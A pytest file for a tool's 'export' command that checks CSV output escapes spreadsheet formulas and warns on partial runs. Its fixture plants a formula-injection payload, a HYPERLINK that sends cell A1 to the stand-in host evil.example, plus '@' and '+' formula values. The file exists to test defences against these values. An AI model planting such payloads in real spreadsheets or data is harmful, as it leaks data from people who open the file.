"""Issue 21: ``creg export`` never writes a formula into a CSV, and says when a run is partial."""

from __future__ import annotations

import json

import pytest
import torch
from click.testing import CliRunner

from creg.cli import cli
from creg.execution.runner import Runner, RunConfig

torch.set_num_threads(1)
pd = pytest.importorskip("pandas")


@pytest.fixture
def run(tmp_path):
    out = tmp_path / "run"
    Runner(RunConfig(sources=["oracle", "random"], n=3), out, progress=False, log=lambda m: None).run()
    rows = [json.loads(x) for x in (out / "samples.jsonl").read_text().splitlines()]
    rows[0]["ref"]["name"] = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    rows[1]["ref"]["name"] = "@SUM(1+1)"
    rows[2]["tgt"]["name"] = "+1-2"
    (out / "samples.jsonl").write_text("".join(json.dumps(r) + "\n" for r in rows))
    return out


def test_formula_cells_are_quoted(run, tmp_path):
    out = tmp_path / "wide.csv"
    res = CliRunner().invoke(cli, ["export", str(run), "--out", str(out)])
    assert res.exit_code == 0, res.output
    text = out.read_text()
    assert "'=HYPERLINK" in text and "'@SUM" in text and "'+1-2" in text
    cells = [c for line in text.splitlines() for c in line.split(",")]
    assert not any(c.lstrip('"').startswith(("=", "+", "@")) for c in cells)
    df = pd.read_csv(out)
    assert df["complete"].all()
    assert (df["dae"] >= 0).all()  # numbers stay numbers


def test_partial_run_export_warns_and_says_so(run, tmp_path):
    summary = json.loads((run / "summary.json").read_text())
    summary["complete"] = False
    (run / "summary.json").write_text(json.dumps(summary))
    out = tmp_path / "wide.csv"
    res = CliRunner().invoke(cli, ["export", str(run), "--out", str(out)])
    assert res.exit_code == 0, res.output
    assert "partial run" in res.output
    assert not pd.read_csv(out)["complete"].any()
